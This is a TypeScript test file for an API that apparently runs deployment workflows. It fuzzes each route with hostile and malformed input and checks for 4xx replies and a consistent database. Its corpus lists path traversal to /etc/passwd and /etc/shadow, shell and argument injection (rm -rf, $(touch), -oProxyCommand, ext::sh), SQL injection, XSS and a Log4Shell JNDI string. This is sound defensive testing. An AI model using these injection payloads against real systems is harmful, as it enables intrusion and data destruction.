// Hostile and malformed input on every route with a body or parameters: always a 4xx (or a 2xx
// where the value is legitimately free text), never a 500, and the database stays consistent.
import SQLite from 'better-sqlite3';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startApi, type Api } from './harness.js';

const CORPUS: readonly string[] = [
  '../../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '/etc/shadow',
  '; rm -rf / #',
  '$(touch /tmp/automatos-pwned)',
  '`id`',
  "' OR '1'='1' --",
  '"; DROP TABLE workflows; --',
  '<script>alert(1)</script>',
  '{{7*7}}${7*7}',
  '${jndi:ldap://203.0.113.1/a}',
  'line\r\nX-Injected: yes',
  'nul\u0000byte',
  'ünïcödé-名前-🚀',
  '\u202eevil\u202c',
  '-oProxyCommand=touch /tmp/automatos-pwned',
  'ext::sh -c touch% /tmp/automatos-pwned',
  'x'.repeat(70_000),
  '',
  ' ',
];

const WRONG_TYPES: readonly unknown[] = [42, -1, 1e308, true, null, [], ['a'], {}, { $gt: '' }];

/** Bodies that reach a handler; each string field is replaced in turn by every corpus value. */
const BODIES: ReadonlyArray<{ method: string; path: string; body: Record<string, unknown> }> = [
  {
    method: 'POST',
    path: '/workflow',
    body: { repository_url: 'https://example.invalid/x.git', target: 'ghost', ref: 'main' },
  },
  { method: 'POST', path: '/execute', body: { target: 'ghost', command: 'true', working_directory: '/' } },
  {
    method: 'POST',
    path: '/api/v1/targets',
    body: { name: 'web-x', host: '10.0.0.7', user: 'deploy', agent: true, root: '/srv' },
  },
  { method: 'POST', path: '/api/v1/apps/corpus/rollback', body: { target: 'ghost', to: 'r1' } },
  { method: 'PUT', path: '/api/v1/apps/corpus/secrets/TOKEN', body: { value: 'v' } },
  { method: 'POST', path: '/api/v1/keys', body: { role: 'viewer', name: 'n', expires: '1d' } },
  { method: 'POST', path: '/api/v1/policy/check', body: { command: 'ls', cwd: '/' } },
  {
    method: 'POST',
    path: '/api/v1/manifests/validate',
    body: { content: 'name: x\n', file: 'ai-module.yaml' },
  },
  {
    method: 'POST',
    path: '/api/v1/plan',
    body: { repository_url: 'https://example.invalid/x.git', target: 'ghost' },
  },
];

/** Paths with a parameter; `{}` is replaced by each corpus value (URL-encoded). */
const PARAM_PATHS: ReadonlyArray<[string, string]> = [
  ['GET', '/workflows/{}'],
  ['DELETE', '/workflows/{}'],
  ['GET', '/workflows/{}/events'],
  ['GET', '/api/v1/targets/{}'],
  ['DELETE', '/api/v1/targets/{}'],
  ['POST', '/api/v1/targets/{}/check'],
  ['GET', '/api/v1/apps/{}'],
  ['GET', '/api/v1/apps/{}/secrets'],
  ['DELETE', '/api/v1/apps/corpus/secrets/{}'],
  ['DELETE', '/api/v1/keys/{}'],
  ['GET', '/api/v1/templates/{}'],
  ['GET', '/workflows?app={}'],
  ['GET', '/api/v1/audit?target={}'],
];

let api: Api;
const statuses = new Map<string, number>();

beforeAll(async () => {
  api = await startApi({
    rateLimits: {
      perIp: { points: 1e6, duration: 60 },
      perKey: { points: 1e6, duration: 60 },
      execute: { points: 1e6, duration: 60 },
    },
  });
}, 30_000);
afterAll(() => api.close());

async function send(
  method: string,
  path: string,
  body?: unknown,
  headers: Record<string, string> = {},
): Promise<number> {
  const res = await api.call(method, path, { ...(body === undefined ? {} : { body }), headers });
  const text = await res.text();
  const label = `${method} ${path.slice(0, 120)} ${JSON.stringify(body)?.slice(0, 200)} -> ${res.status} ${text.slice(0, 300)}`;
  expect(res.status, label).toBeLessThan(500);
  if (res.status >= 400) {
    const parsed = JSON.parse(text) as { error: { code: string; message: string; details: unknown } };
    expect(parsed.error.code, label).toMatch(/^AUT_[A-Z_]+$/);
    expect(typeof parsed.error.message).toBe('string');
    expect(text, label).not.toMatch(/at .+\.(ts|js):\d+/);
  }
  statuses.set(label, res.status);
  return res.status;
}

describe('bad input corpus', () => {
  it('never answers 500 to hostile strings in any body field', async () => {
    for (const { method, path, body } of BODIES) {
      for (const field of Object.keys(body)) {
        for (const value of CORPUS) await send(method, path, { ...body, [field]: value });
        for (const value of WRONG_TYPES) await send(method, path, { ...body, [field]: value });
      }
      await send(method, path, { ...body, unexpected: 'field' }).then((s) => expect(s).toBe(400));
    }
  }, 120_000);

  it('never answers 500 to hostile path and query parameters', async () => {
    for (const [method, template] of PARAM_PATHS) {
      for (const value of CORPUS.filter((v) => v.length < 5000)) {
        await send(method, template.replace('{}', encodeURIComponent(value)));
      }
    }
  }, 120_000);

  it('answers malformed bodies with 400/413/415', async () => {
    const post = (body: string, type = 'application/json') =>
      api.call('POST', '/api/v1/policy/check', { body, headers: { 'content-type': type } });
    expect((await post('{"command": ')).status).toBe(400);
    expect((await post('[]')).status).toBe(400);
    expect((await post('null')).status).toBe(400);
    expect((await post('command=ls', 'application/x-www-form-urlencoded')).status).toBe(415);
    expect((await post('x'.repeat(10), 'text/plain')).status).toBe(415);
    const huge = await post(JSON.stringify({ command: 'x'.repeat(2 * 1024 * 1024) }));
    expect(huge.status).toBe(413);
    expect(((await huge.json()) as { error: { code: string } }).error.code).toBe('AUT_BODY_TOO_LARGE');
    const deep = '{"command":"ls","x":' + '['.repeat(5000) + ']'.repeat(5000) + '}';
    expect((await post(deep)).status).toBe(400);
    const long = await api.call('GET', `/workflows/${'a'.repeat(300)}`);
    expect(long.status).toBe(414);
    expect(((await long.json()) as { error: { code: string } }).error.code).toBe('AUT_INVALID_INPUT');
  });

  it('leaves the database consistent: no stray rows, intact audit chain, integrity ok', async () => {
    // The one legitimate name of the corpus bodies; a corpus value never became a name.
    expect((await api.orch.store.targets.list()).map((t) => t.name)).toEqual(['web-x']);
    expect((await api.orch.store.workflows.list()).length).toBe(0);
    const keys = await api.orch.apiKeys.list();
    // Only keys whose name and expiry were legitimate got created; none carries a corpus string as role.
    expect(keys.every((k) => ['admin', 'operator', 'viewer', 'agent'].includes(k.role))).toBe(true);
    expect(await api.orch.audit.verify()).toMatchObject({ ok: true });
    const raw = new SQLite(join(api.dataDir, 'automatos.db'), { readonly: true });
    try {
      expect(raw.pragma('integrity_check', { simple: true })).toBe('ok');
      expect(raw.pragma('foreign_key_check')).toEqual([]);
    } finally {
      raw.close();
    }
    expect(statuses.size).toBeGreaterThan(500);
  });
});
